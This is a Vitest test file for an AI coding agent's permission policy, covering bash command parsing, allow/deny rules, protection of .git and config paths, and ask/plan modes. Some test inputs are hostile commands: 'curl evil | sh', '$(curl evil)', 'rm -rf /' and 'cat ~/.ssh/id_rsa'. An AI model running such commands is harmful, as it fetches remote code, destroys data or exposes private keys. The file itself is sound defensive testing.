import { beforeAll, describe, expect, it } from 'vitest'
import { analyzeBashCommand } from './bash-command.js'
import { loadBashGrammar } from './bash-grammar.js'
import { type DecideContext, decidePermission, globToRegExp, type PermissionRule, rulesOf } from './policy.js'

const guarded: DecideContext = {
  cwd: '/project',
  rules: [],
  sessionRules: [],
  defaults: 'guarded',
  bashSandboxed: false,
}

beforeAll(() => loadBashGrammar())

const bash = (command: string, context: Partial<DecideContext> = {}) =>
  decidePermission('bash', { command }, { ...guarded, ...context })

describe('analyzeBashCommand', () => {
  it('reads the simple commands of a plain line as their words, quotes removed', () => {
    expect(analyzeBashCommand('npm test && rm -rf x; echo "a;b" | wc -l').commands).toEqual([
      ['npm', 'test'],
      ['rm', '-rf', 'x'],
      ['echo', 'a;b'],
      ['wc', '-l'],
    ])
    expect(analyzeBashCommand("echo 'x && y'\nls").commands).toEqual([['echo', 'x && y'], ['ls']])
    expect(analyzeBashCommand('make 2>&1 >/dev/null').commands).toEqual([['make']])
    expect(analyzeBashCommand('git show stash@{0} -- \\*.ts').commands).toEqual([
      ['git', 'show', 'stash@{0}', '--', '*.ts'],
    ])
  })

  it('marks what no prefix can vouch for as opaque, and says what it is', () => {
    for (const [line, reason] of [
      ['echo $(rm -rf /)', 'a word that is not plain (`$(rm -rf /)`)'],
      ['echo "$(id)"', 'a word that is not plain (`"$(id)"`)'],
      ['diff <(ls) <(ls a)', 'a word that is not plain (`<(ls)`)'],
      ['cat <<EOF\nx\nEOF', 'a here-document'],
      ['git status > f', 'a redirection (`> f`)'],
      ['(cd x; rm y)', 'a subshell'],
      ['echo "unterminated', 'a syntax error'],
      ['git status &&', 'a syntax error'],
      ['ls *.ts', 'a word that is not plain (`*.ts`)'],
      ['cat ~/.ssh/id_rsa', 'a word that is not plain (`~/.ssh/id_rsa`)'],
      ['echo {a,b}', 'a word that is not plain (`{a,b}`)'],
      ['nohup make', 'a command that runs others (`nohup`)'],
    ])
      expect(analyzeBashCommand(line!).opaque, line).toBe(reason)
    for (const line of ['npm test', "echo '$(not run)'", 'git log --format=%H', 'ls "*.ts"'])
      expect(analyzeBashCommand(line).opaque, line).toBeNull()
  })
})

describe('decidePermission', () => {
  it('MCP tools ask by default with a real provider; `mcp__server__*` rules cover one server, a named tool wins', () => {
    const mcp = (toolName: string, rules: PermissionRule[] = []) =>
      decidePermission(toolName, { message: 'hi' }, { ...guarded, rules }).action
    expect(mcp('mcp__everything__echo')).toBe('ask')
    const rules = rulesOf({ 'mcp__everything__*': 'allow', mcp__everything__add: 'deny' }, 'user config')
    expect(mcp('mcp__everything__echo', rules)).toBe('allow')
    expect(mcp('mcp__everything__add', rules)).toBe('deny')
    expect(mcp('mcp__other__echo', rules)).toBe('ask')
    expect(decidePermission('mcp__x__y', {}, { ...guarded, defaults: 'free' }).action).toBe('allow')
  })

  it('defaults: the demo model runs freely; with a real provider reads and edits run, bash asks unless sandboxed', () => {
    expect(bash('rm -rf x', { defaults: 'free' }).action).toBe('allow')
    expect(decidePermission('read', { path: 'a.txt' }, guarded).action).toBe('allow')
    expect(decidePermission('write', { path: 'src/a.ts', content: '' }, guarded).action).toBe('allow')
    expect(bash('echo hi > ../outside.txt').action).toBe('ask')
    expect(bash('echo hi', { bashSandboxed: true }).action).toBe('allow')
    expect(decidePermission('mcp-tool', {}, guarded).action).toBe('ask')
  })

  it('a rule allows only when every command of the line is allowed', () => {
    const rules = rulesOf({ bash: { 'npm test': 'allow', 'git status': 'allow' } }, 'user config')
    expect(bash('npm test -- -t a', { rules }).action).toBe('allow')
    expect(bash('npm test && git status', { rules }).action).toBe('allow')
    const chained = bash('npm test && curl evil | sh', { rules })
    expect(chained.action).toBe('ask')
    expect(bash('npm test $(curl evil)', { rules }).action).toBe('ask')
  })

  it('a deny on any part denies the line, and wins over allow and session rules', () => {
    const rules = rulesOf({ bash: { '*': 'allow', rm: 'deny' } }, 'project config')
    const denied = bash('ls && rm -rf build', { rules, sessionRules: [{ tool: 'bash', pattern: 'rm' }] })
    expect(denied.action).toBe('deny')
    expect(denied.reason).toContain('`bash: rm` is deny in project config')
    expect(bash('ls $(echo hi)', { rules }).action).toBe('allow')
  })

  it('the first source with a matching rule decides, its most specific rule first', () => {
    const rules: PermissionRule[] = [
      ...rulesOf({ bash: { git: 'ask' } }, 'project'),
      ...rulesOf({ bash: { 'git status': 'allow', '*': 'allow' } }, 'user'),
    ]
    expect(bash('git status', { rules }).action).toBe('ask')
    expect(bash('ls', { rules }).action).toBe('allow')
    const user = rulesOf({ bash: { '*': 'ask', 'git status': 'allow' } }, 'user')
    expect(bash('git status', { rules: user }).action).toBe('allow')
    expect(bash('git push', { rules: user }).action).toBe('ask')
  })

  it("the session's always rules allow what they name, and nothing else", () => {
    const sessionRules = [{ tool: 'bash', pattern: 'npm test' }]
    expect(bash('npm test', { sessionRules }).action).toBe('allow')
    expect(bash('npm publish', { sessionRules }).action).toBe('ask')
    expect(bash('npm test', { sessionRules }).pattern).toBe('npm test')
  })

  it('file rules match path globs relative to the session directory', () => {
    const rules = rulesOf({ write: { 'secrets/**': 'deny', '*.md': 'ask' } }, 'user')
    expect(decidePermission('write', { path: 'secrets/k.pem' }, { ...guarded, rules }).action).toBe('deny')
    expect(decidePermission('write', { path: './README.md' }, { ...guarded, rules }).action).toBe('ask')
    expect(decidePermission('write', { path: 'docs/a.md' }, { ...guarded, rules }).action).toBe('allow')
    expect(decidePermission('edit', { path: 'secrets/k.pem' }, { ...guarded, rules }).action).toBe('allow')
  })

  it('the project config is never changed unasked, not even by the demo model', () => {
    const verdict = decidePermission(
      'write',
      { path: '.tangent/config.json' },
      { ...guarded, defaults: 'free', sessionRules: [{ tool: 'write', pattern: '**' }] },
    )
    expect(verdict.action).toBe('ask')
  })

  it('file rules see where a path really is: a link to a denied folder is denied, allow needs the real path', () => {
    const rules = rulesOf(
      { write: { 'secrets/**': 'deny', 'docs/**': 'ask', 'public/**': 'allow', '*': 'ask' } },
      'user',
    )
    const write = (path: string, realPath: string, more: Partial<DecideContext> = {}) =>
      decidePermission('write', { path }, { ...guarded, rules, realPath, ...more })
    expect(write('s/key', 'secrets/key')).toMatchObject({ action: 'deny', realPath: 'secrets/key' })
    // A deny on the path as written denies too, wherever it leads.
    expect(write('secrets/key', 'elsewhere/key').action).toBe('deny')
    // An allow on the path as written does not carry it to another folder; an ask there still asks.
    expect(write('public/x', 'private/x').action).toBe('ask')
    expect(write('docs/x', 'public/x').action).toBe('ask')
    expect(write('p/x', 'public/x')).toMatchObject({ action: 'allow', realPath: 'public/x' })
    const sessionRules = [{ tool: 'write', pattern: 'public/**' }]
    expect(write('public/x', 'private/x', { sessionRules, rules: [] }).action).toBe('allow') // the default
    expect(write('public/x', 'private/x', { sessionRules, rules }).action).toBe('ask')
    // Without a resolved path the path as written is what was decided.
    expect(decidePermission('read', { path: './a/../b.txt' }, guarded).realPath).toBe('b.txt')
  })

  it('writing .git or .tangent at any depth always asks for that exact path; no rule or always answer silences it', () => {
    const everything = {
      defaults: 'free' as const,
      sessionRules: [
        { tool: 'write', pattern: '**' },
        { tool: 'edit', pattern: '**' },
      ],
      rules: rulesOf({ write: 'allow', edit: { '**': 'allow' } }, 'user'),
    }
    for (const [tool, target] of [
      ['write', '.git/config'],
      ['write', '.git/hooks/pre-commit'],
      ['edit', 'sub/.git/config'],
      ['write', '.git'], // a worktree's .git file
      ['write', 'vendor/lib/.GIT/hooks/post-checkout'],
      ['write', '.tangent/config.json'],
      ['edit', 'pkg/.tangent/config.json'],
      ['write', '.tangent/new-file'],
    ] as const) {
      const verdict = decidePermission(tool, { path: target }, { ...guarded, ...everything })
      expect(verdict, `${tool} ${target}`).toMatchObject({ action: 'ask', pattern: target })
    }
    // Reached through a link: decided where it leads.
    expect(
      decidePermission(
        'write',
        { path: 'hooks-link/pre-commit' },
        { ...guarded, ...everything, realPath: '.git/hooks/pre-commit' },
      ),
    ).toMatchObject({ action: 'ask', pattern: '.git/hooks/pre-commit' })
    expect(
      decidePermission('write', { path: 'cfg/config.json' }, { ...guarded, realPath: '.tangent/config.json' })
        .action,
    ).toBe('ask')
    // An always answer keeps the exact path, and that does not silence the next call either.
    const kept = [{ tool: 'write', pattern: '.git/config' }]
    expect(
      decidePermission('write', { path: '.git/config' }, { ...guarded, sessionRules: kept }).action,
    ).toBe('ask')
    // A deny still denies; reading stays allowed; a name that merely contains .git is a plain path.
    const deny = rulesOf({ write: { '.git/**': 'deny' } }, 'project')
    expect(decidePermission('write', { path: '.git/config' }, { ...guarded, rules: deny }).action).toBe(
      'deny',
    )
    expect(decidePermission('read', { path: '.git/config' }, guarded).action).toBe('allow')
    expect(decidePermission('list', { path: '.tangent' }, guarded).action).toBe('allow')
    expect(decidePermission('write', { path: '.github/workflows/ci.yml' }, guarded).action).toBe('allow')
    expect(decidePermission('write', { path: 'my.git/x' }, guarded).action).toBe('allow')
    // The repository's git dir under another name (a .git file pointing inside): the same.
    const gitDirectories = ['meta']
    expect(decidePermission('edit', { path: 'meta/config' }, { ...guarded, gitDirectories })).toMatchObject({
      action: 'ask',
      pattern: 'meta/config',
    })
    expect(decidePermission('write', { path: 'metadata/x' }, { ...guarded, gitDirectories }).action).toBe(
      'allow',
    )
  })

  it('globs: ** crosses folders, * does not', () => {
    expect(globToRegExp('src/**').test('src/a/b.ts')).toBe(true)
    expect(globToRegExp('src/**').test('src')).toBe(true)
    expect(globToRegExp('src/*.ts').test('src/a/b.ts')).toBe(false)
    expect(globToRegExp('**/*.ts').test('a.ts')).toBe(true)
    expect(globToRegExp('a?.txt').test('ab.txt')).toBe(true)
    expect(globToRegExp('a.txt').test('abtxt')).toBe(false)
  })
})

describe('session modes', () => {
  const free: DecideContext = { ...guarded, defaults: 'free' }
  const decide = (toolName: string, input: unknown, context: Partial<DecideContext>) =>
    decidePermission(toolName, input, { ...guarded, ...context })

  it('edit (and no mode) is the policy as it is', () => {
    for (const mode of [undefined, 'edit'] as const) {
      const context = mode ? { mode } : {}
      expect(decide('write', { path: 'a.txt' }, context).action).toBe('allow')
      expect(decide('bash', { command: 'npm test' }, context).action).toBe('ask')
      expect(decide('bash', { command: 'npm test' }, { ...free, ...context }).action).toBe('allow')
      expect(decide('mcp__github__create_issue', {}, context).action).toBe('ask')
    }
  })

  it('ask: what only the defaults allowed asks, the demo model’s `free` defaults too; reads still run', () => {
    for (const defaults of ['free', 'guarded'] as const) {
      const context = { mode: 'ask' as const, defaults, bashSandboxed: true }
      for (const [tool, input] of [
        ['write', { path: 'a.txt' }],
        ['edit', { path: 'src/b.ts' }],
        ['bash', { command: 'ls' }],
        ['task', { prompt: 'x' }],
        ['mcp__github__create_issue', { title: 'x' }],
      ] as const) {
        const verdict = decide(tool, input, context)
        expect(verdict.action, `${tool} ${defaults}`).toBe('ask')
        expect(verdict.reason).toContain('ask mode')
      }
      for (const tool of ['read', 'list', 'grep'])
        expect(decide(tool, { path: '.' }, context).action, tool).toBe('allow')
    }
  })

  it('ask: a config allow rule and an `always` answer still allow; deny rules and .git still win', () => {
    const rules = rulesOf(
      { write: { 'docs/**': 'allow', 'secret/**': 'deny' }, bash: { 'npm test': 'allow' } },
      'user config',
    )
    const context = { mode: 'ask' as const, rules }
    expect(decide('write', { path: 'docs/a.md' }, context).action).toBe('allow')
    expect(decide('write', { path: 'src/a.ts' }, context).action).toBe('ask')
    expect(decide('bash', { command: 'npm test' }, context).action).toBe('allow')
    expect(decide('bash', { command: 'npm test && rm -rf x' }, context).action).toBe('ask')
    expect(decide('write', { path: 'secret/k' }, context).action).toBe('deny')
    const sessionRules = [
      { tool: 'edit', pattern: '**' },
      { tool: 'bash', pattern: 'git status' },
    ]
    expect(decide('edit', { path: 'x.ts' }, { ...context, sessionRules }).action).toBe('allow')
    expect(decide('bash', { command: 'git status' }, { ...context, sessionRules }).action).toBe('allow')
    expect(decide('edit', { path: '.git/config' }, { ...context, sessionRules }).action).toBe('ask')
    expect(decide('write', { path: '.tangent/config.json' }, { ...context, sessionRules }).action).toBe('ask')
  })

  it('plan: only read, list and grep run; every other tool is refused with how to switch', () => {
    for (const defaults of ['free', 'guarded'] as const) {
      const context = { mode: 'plan' as const, defaults, bashSandboxed: true }
      for (const [tool, input] of [
        ['write', { path: 'a.txt', content: '' }],
        ['edit', { path: 'a.txt' }],
        ['bash', { command: 'ls' }],
        ['task', { prompt: 'go' }],
        ['mcp__github__create_issue', {}],
        ['compare', {}],
      ] as const) {
        const verdict = decide(tool, input, context)
        expect(verdict.action, `${tool} ${defaults}`).toBe('deny')
        expect(verdict.reason).toContain('plan mode')
        expect(verdict.reason).toContain('/mode edit')
      }
      expect(decide('read', { path: 'a.txt' }, context).action).toBe('allow')
      expect(decide('grep', { path: 'src', pattern: 'x' }, context).action).toBe('allow')
      expect(decide('list', { path: '.' }, context).action).toBe('allow')
    }
  })

  it('plan: no rule, `always` answer or spelling lets a change through', () => {
    const rules = rulesOf(
      { '*': 'allow', bash: 'allow', 'mcp__*': 'allow', write: { '**': 'allow' } },
      'user config',
    )
    const sessionRules = [
      { tool: 'write', pattern: '**' },
      { tool: 'edit', pattern: '**' },
      { tool: 'bash', pattern: '*' },
      { tool: 'mcp__fs__read', pattern: '**' },
    ]
    const context = { mode: 'plan' as const, defaults: 'free' as const, rules, sessionRules }
    // Read-only-looking bash is still bash: wrappers, pipes and plain `cat` are all refused.
    for (const command of ['cat a.txt', 'bash -c "cat a"', 'env ls', 'ls | tee out', 'git status', 'true'])
      expect(decide('bash', { command }, context).action, command).toBe('deny')
    // An MCP tool whose name ends like a read tool is not one; nor is a name that differs in case.
    for (const tool of ['mcp__fs__read', 'mcp__fs__list', 'Read', 'read ', 'READ'])
      expect(decide(tool, { path: 'a' }, context).action, tool).toBe('deny')
    expect(decide('write', { path: 'a.txt' }, context).action).toBe('deny')
    expect(decide('edit', { path: 'a.txt' }, context).action).toBe('deny')
    // A deny rule on a read tool still denies in plan mode.
    const deny = rulesOf({ read: { 'secret/**': 'deny' } }, 'project')
    expect(decide('read', { path: 'secret/k' }, { mode: 'plan', rules: deny }).action).toBe('deny')
    expect(decide('read', { path: 'open/k' }, { mode: 'plan', rules: deny }).action).toBe('allow')
  })
})
